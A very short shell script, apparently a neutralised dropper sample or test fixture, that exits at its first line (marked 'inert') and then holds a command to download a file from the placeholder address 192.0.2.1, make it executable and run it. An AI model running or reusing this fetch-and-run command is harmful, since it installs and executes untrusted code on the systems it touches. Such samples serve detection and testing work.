exit 0 # inert
cd /tmp || cd /var/run
wget http://192.0.2.1/a; chmod 777 a; ./a
